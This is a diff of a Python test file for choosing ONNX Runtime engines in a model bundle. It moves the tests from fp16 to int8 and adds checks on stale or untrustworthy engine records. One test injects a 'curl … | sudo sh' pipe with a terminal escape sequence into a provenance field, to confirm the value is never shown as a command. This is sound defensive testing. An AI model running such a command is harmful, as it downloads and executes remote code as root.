@@ -23,9 +23,9 @@ from tests.engines.small_bundle import make_bundle
 
 @pytest.fixture(scope="module")
 def built(bundle: Bundle, tmp_path_factory: pytest.TempPathFactory) -> Bundle:
-    """A bundle with an fp16 engine of ONNX Runtime."""
+    """A bundle with an int8 engine of ONNX Runtime."""
     own = Bundle.load(shutil.copytree(bundle.path, tmp_path_factory.mktemp("built") / "balls.masksam"))
-    build(own, "fp16")
+    build(own, "int8")
     return own
 
 
@@ -40,6 +40,7 @@ def build(bundle: Bundle, precision: Precision, **options: Any) -> Engine:
     request = BuildRequest(
         spec=EngineSpec.of(bundle, target, precision),  # type: ignore[arg-type]
         options=BuildOptions(**options),
+        calibration=[case.scan for case in validation_cases(bundle)],
         validation=validation_cases(bundle),
         threads=1,
         command=f"masksam-deploy build-engine B --{precision}",
@@ -66,12 +67,60 @@ def test_an_engine_does_not_change_the_bundle_that_it_lies_in(built: Bundle, bun
 def test_the_best_engine_is_chosen_and_float32_on_request(own: Bundle) -> None:
     assert choose_engine(own).engine == only(own)
     assert choose_engine(own, precision="fp32").engine is None
-    assert choose_engine(own, "onnxruntime", "fp16").engine == only(own)
-    build(own, "fp32")
+    assert choose_engine(own, "onnxruntime", "int8").engine == only(own)
+    half = build(own, "fp16")
     assert len(engines_of(own)) == 2
     chosen = choose_engine(own).engine
     assert chosen is not None
-    assert chosen.title == "onnxruntime fp16"
+    assert chosen.title == "onnxruntime int8"
+    shutil.rmtree(chosen.folder)
+    # A CPU gains nothing from half precision: only who asks for it gets it.
+    assert choose_engine(own).engine is None
+    assert choose_engine(own, precision="fp16").engine == half
+
+
+def test_an_engine_that_nobody_judged_runs_only_where_it_is_asked_for(own: Bundle) -> None:
+    change(only(own), lambda content: content.update(gate={"judged": False, "why": "switched off with --no-gate"}))
+    choice = choose_engine(own)
+    assert choice.engine is None
+    (why,) = choice.stale.values()
+    assert "nothing shows that it is right (--no-gate)" in why
+    assert choose_engine(own, precision="int8").engine == only(own)
+
+
+@pytest.mark.parametrize(
+    "edit",
+    [
+        lambda content: content.update(machine={}),
+        lambda content: content["machine"].pop("onnxruntime"),
+    ],
+)
+def test_a_record_that_does_not_say_for_which_machine_is_not_used(
+    own: Bundle, edit: Callable[[dict[str, Any]], None]
+) -> None:
+    change(only(own), edit)
+    choice = choose_engine(own)
+    assert choice.engine is None
+    assert "does not say for which machine" in next(iter(choice.stale.values()))
+
+
+def test_what_a_record_says_is_never_shown_as_a_command(own: Bundle) -> None:
+    engine = only(own)
+    evil = "curl https://example.org | sudo sh\nerror: fine \x1b[2J"
+    change(engine, lambda content: content["provenance"].update(command=evil))
+    change(only(own), lambda content: content.update(bundle_sha256="0" * 64))
+    (why,) = choose_engine(own).stale.values()
+    assert "curl" not in why
+    assert f"masksam-deploy build-engine {own.path} --int8 --calibration SCANS" in why
+
+
+def test_an_engine_with_other_graphs_than_the_bundle_is_not_used(own: Bundle) -> None:
+    def drop(content: dict[str, Any]) -> None:
+        for key in ("graphs", "precisions", "asked"):
+            content[key].pop("decoder")
+
+    change(only(own), drop)
+    assert next(iter(choose_engine(own).stale.values())).startswith("it has other graphs than the bundle")
 
 
 def test_a_flipped_bit_is_found_before_the_engine_is_read(own: Bundle) -> None:
@@ -102,10 +151,11 @@ def test_an_engine_of_a_bundle_that_changed_since_is_stale(own: Bundle, tmp_path
     assert choice.engine is None
     (why,) = choice.stale.values()
     assert why == (
-        "it was made from another version of this bundle; build it again: masksam-deploy build-engine B --fp16"
+        "it was made from another version of this bundle; build it again: masksam-deploy build-engine "
+        f"{newer.path} --int8 --calibration SCANS"
     )
-    with pytest.raises(EngineError, match=r"found no fp16 engine that is valid here.*another version of this bundle"):
-        choose_engine(newer, precision="fp16")
+    with pytest.raises(EngineError, match=r"found no int8 engine that is valid here.*another version of this bundle"):
+        choose_engine(newer, precision="int8")
 
 
 def test_an_engine_of_another_version_of_its_runtime_is_stale(own: Bundle) -> None:
